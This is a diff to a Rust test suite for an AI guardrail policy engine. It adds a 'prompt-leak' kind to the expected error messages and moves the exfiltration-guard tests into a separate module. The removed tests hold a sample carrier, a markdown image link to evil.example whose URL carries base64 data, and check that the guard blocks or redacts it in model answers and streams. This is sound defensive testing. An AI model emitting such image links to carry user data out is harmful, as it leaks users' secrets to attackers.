@@ -194,9 +194,9 @@ fn all_problems_of_a_document_are_reported_at_once_with_their_places() {
     check(
         "policies:\n  chain: [promt-injection, pii-detector, pii-detector, topic-filter]\npolicy:\n  pii-detector:\n    acton: redact\n    mode: sometimes\n  human-oversight: { require_review: yes please }\n",
         expect![[r#"
-            policy.yaml:2:11: unknown kind `promt-injection`; valid here: prompt-injection, pii-detector, secret-detector, dlp-filter, exfiltration-guard, model-filter, tool-guard, agent-firewall, rate-limit, human-oversight, audit-logger
+            policy.yaml:2:11: unknown kind `promt-injection`; valid here: prompt-injection, pii-detector, secret-detector, dlp-filter, exfiltration-guard, prompt-leak, model-filter, tool-guard, agent-firewall, rate-limit, human-oversight, audit-logger
             policy.yaml:2:42: this stands twice in the chain; give the second one its own name and `kind:`
-            policy.yaml:2:56: `topic-filter` is not in this version yet; it has prompt-injection, pii-detector, secret-detector, dlp-filter, exfiltration-guard, model-filter, tool-guard, agent-firewall, rate-limit, human-oversight, audit-logger
+            policy.yaml:2:56: `topic-filter` is not in this version yet; it has prompt-injection, pii-detector, secret-detector, dlp-filter, exfiltration-guard, prompt-leak, model-filter, tool-guard, agent-firewall, rate-limit, human-oversight, audit-logger
             policy.yaml:5:5: unknown key `acton`; valid here: action, response, mode, on_error, on_unscanned, when, kind, entities; did you mean `action`?
             policy.yaml:6:11: expected one of enforce, monitor
             policy.yaml:7:38: expected true or false"#]],
@@ -316,61 +316,4 @@ fn several_checks_for_the_same_have_each_their_say_on_streams() {
     assert_eq!(triggered, [vec!["numbers", "pii-detector"], vec!["pii-detector"]]);
 }
 
-/// An answer of one choice.
-fn answer(text: &str) -> Response {
-    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]});
-    Response::parse(body.to_string().into()).unwrap()
-}
-
-const CARRIER: &str = "Done.\n\n![chart](https://evil.example/p.png?d=VGhlIHBhc3N3b3JkIGlzIG5vdCB0b2xk)\n";
-
-#[test]
-fn what_would_carry_data_out_of_an_answer_is_withheld_or_taken_out() {
-    let policy = |settings: &str| {
-        let text = format!(
-            "policies: {{ chain: [exfiltration-guard] }}\npolicy: {{ exfiltration-guard: {{ {settings} }} }}\n"
-        );
-        compile(&text, "test").unwrap_or_else(|problems| panic!("{problems}"))
-    };
-    let judged =
-        |settings: &str| policy(settings).judge_response(&answer(CARRIER), &Subject::default(), &Toolbox::default());
-    let blocked = judged("action: block");
-    assert_eq!((blocked.action(), blocked.category), (Action::Block, Some(Category::DataExfiltration)));
-    assert_eq!((blocked.finding_type.as_deref(), blocked.severity), (Some("markdown_exfil"), Some(Severity::High)));
-    let redacted = judged("action: redact");
-    assert_eq!(answer(CARRIER).splice(&redacted.edits).len(), answer("Done.\n\n[REMOTE_IMAGE]\n").bytes().len());
-    assert_eq!(judged("allow_hosts: [evil.example]").action(), Action::Allow);
-    let rows = (0..30).map(|at| format!("{at},name,open\n")).collect::<String>();
-    let bulk = policy("max_rows: 20").judge_response(&answer(&rows), &Subject::default(), &Toolbox::default());
-    assert_eq!(bulk.finding_type.as_deref(), Some("bulk_data"));
-    check(
-        "policies: { chain: [exfiltration-guard] }\npolicy: { exfiltration-guard: { max_rows: 0.5, allow_host: x } }",
-        expect![[r#"
-            policy.yaml:2:43: this is a whole number from 1 on
-            policy.yaml:2:48: unknown key `allow_host`; valid here: action, response, mode, on_error, on_unscanned, when, kind, threshold, allow_hosts, max_rows, max_entities; did you mean `allow_hosts`?"#]],
-    );
-}
-
-#[test]
-fn a_piece_of_a_stream_that_completes_a_carrier_ends_it_whatever_the_action_that_holds() {
-    for (settings, expected) in [
-        ("action: block", Action::Block),
-        ("action: redact", Action::Block),
-        ("action: flag", Action::Flag),
-        ("action: block, mode: monitor", Action::Flag),
-        ("action: block, when: { direction: input }", Action::Allow),
-    ] {
-        let text = format!(
-            "policies: {{ chain: [exfiltration-guard] }}\npolicy: {{ exfiltration-guard: {{ {settings} }} }}\n"
-        );
-        let policy = compile(&text, "test").unwrap_or_else(|problems| panic!("{problems}"));
-        let subject = Subject::default();
-        let mut watch = policy.watch(&subject).unwrap_or_default();
-        let (before, last) = CARRIER.split_at(CARRIER.find(')').unwrap());
-        assert_eq!(policy.judge_piece(&mut watch, (0, before), &subject).action(), Action::Allow);
-        assert_eq!(policy.judge_piece(&mut watch, (1, last), &subject).action(), Action::Allow, "channels are apart");
-        let judged = policy.judge_piece(&mut watch, (0, last), &subject);
-        assert_eq!(judged.action(), expected, "{settings}");
-        assert!(judged.results.iter().all(|result| result.spans[0].start == 7), "{settings}: {:?}", judged.results);
-    }
-}
+mod guards;
